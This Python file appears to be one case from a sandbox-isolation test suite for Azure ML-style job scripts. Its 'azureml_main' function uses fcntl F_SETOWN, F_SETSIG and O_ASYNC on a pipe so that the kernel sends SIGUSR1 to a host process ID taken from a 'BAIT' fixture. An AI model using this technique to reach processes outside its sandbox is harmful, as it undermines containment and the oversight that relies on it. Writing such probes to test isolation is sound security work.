"""Has the kernel send a signal to the process that ordered the job when a pipe can be read."""

import fcntl
import os
import signal
import time

from attack import BAIT, attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    ours, its = os.pipe()
    fcntl.fcntl(ours, fcntl.F_SETOWN, BAIT["host_pid"])
    fcntl.fcntl(ours, 10, signal.SIGUSR1)  # F_SETSIG
    fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(its, b"x")
    time.sleep(0.1)
    return ""
